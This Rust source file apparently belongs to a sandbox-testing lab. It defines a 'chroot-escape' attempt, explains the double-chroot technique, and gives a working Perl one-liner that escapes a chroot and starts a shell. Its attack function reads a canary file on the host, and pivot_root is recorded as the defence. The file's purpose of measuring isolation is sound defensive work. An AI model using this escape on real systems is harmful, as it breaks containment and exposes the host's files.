//! chroot-escape: walk out of a chroot.

use super::{Attempt, Measured};
use crate::attacker::Failed;
use crate::refusals::Refusal;
use crate::{Attacker, Host, Seen};
use nix::libc;

/// The attempt.
pub const ATTEMPT: Attempt = Attempt {
    id: "chroot-escape",
    stake: "The host's whole file tree, to whoever is root in a chroot.",
    story: "chroot(2) only moves the process's root directory. The attacker calls it again, on a \
            directory further down, without going there: its working directory now lies outside of \
            its root, and `..` is stopped by nothing but the root. Sixty-four of them lead to the \
            top of the tree, where a last chroot makes it the root. The mount namespace of labs 1 \
            and 2 is a copy of the host's whole tree, so the walk ends at the host's files all the \
            same. pivot_root(2) takes the old tree away: there is nothing above the root.",
    by_hand: &[
        "[ -e /dev/null ] || touch /dev/null",
        "perl -e 'mkdir \"x\"; chroot \"x\"; chdir \"..\" for 1..64; chroot \".\"; exec \"/bin/sh\"'",
    ],
    stopped_by: &["lab3-pivot/pivot-root"],
    after: &[],
    man: &["chroot(2)", "pivot_root(2)"],
    letters: Measured { root: "E EEEBBBB", user: "E EEEBBBB", rootless: "E EEEBBBB" },
    needs: &[],
    decisive: &[libc::SYS_chroot, libc::SYS_openat, libc::SYS_openat2, libc::SYS_pread64],
    attack,
    class: Refusal::Root,
    witness,
};

fn attack(me: &mut Attacker) -> Result<(), Failed> {
    let (above, root) = me.root()?;
    // Any directory but the root will do; one that is there already leaves no trace.
    let mut below = None;
    for place in ["/dev", "/etc", "/tmp", "/usr"] {
        if below.is_none() && me.is_elsewhere(place, root)? {
            below = Some(place.to_owned());
        }
    }
    let below = below.map_or_else(|| me.directory(), Ok)?;
    if !me.is_elsewhere(&below, root)? {
        return me.gives_up("there is no directory below its root");
    }
    me.chroot(&below)?;
    // The descriptor of what was its root is outside of what is its root now.
    me.take_canary_above(above, root)
}

fn witness(host: &Host) -> Seen {
    if host.took("canary") {
        return Seen::Effect("the attacker walked out of its root and has read a file of the host".into());
    }
    Seen::Nothing
}
